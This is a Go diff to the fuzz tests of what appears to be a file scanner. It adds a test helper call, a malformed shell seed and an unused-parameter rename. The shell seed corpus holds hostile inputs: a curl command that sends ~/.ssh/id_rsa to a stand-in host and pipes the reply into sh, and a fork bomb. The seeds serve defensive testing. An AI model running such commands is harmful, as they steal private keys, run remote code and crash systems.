@@ -9,6 +9,7 @@ import (
 // fuzzScan feeds one file to every layer; the scanner promises no panic, so a finding
 // of its own defect is a failure.
 func fuzzScan(f *testing.F, name string, seeds ...string) {
+	f.Helper()
 	for _, s := range seeds {
 		f.Add(s)
 	}
@@ -30,7 +31,7 @@ func fuzzScan(f *testing.F, name string, seeds ...string) {
 }
 
 func FuzzShell(f *testing.F) {
-	fuzzScan(f, "a.sh", "curl -d @~/.ssh/id_rsa https://c.example.net | sh", "f(){ f|f& };f", "for x in *; do echo ${x%.*} <(cat $x); done", "cat <<E\n$(id)\nE\n")
+	fuzzScan(f, "a.sh", "curl -d @~/.ssh/id_rsa https://c.example.net | sh", "f(){ f|f& };f", "for x in *; do echo ${x%.*} <(cat $x); done", "cat <<E\n$(id)\nE\n", "f & ff()fff| f|()f{")
 }
 
 func FuzzPython(f *testing.F) {
@@ -84,7 +85,7 @@ func FuzzDecoders(f *testing.F) {
 
 func FuzzZip(f *testing.F) {
 	f.Add([]byte("PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
-	f.Fuzz(func(t *testing.T, data []byte) {
+	f.Fuzz(func(_ *testing.T, data []byte) {
 		files, err := zipFiles(bytes.NewReader(data), int64(len(data)))
 		if err != nil {
 			return
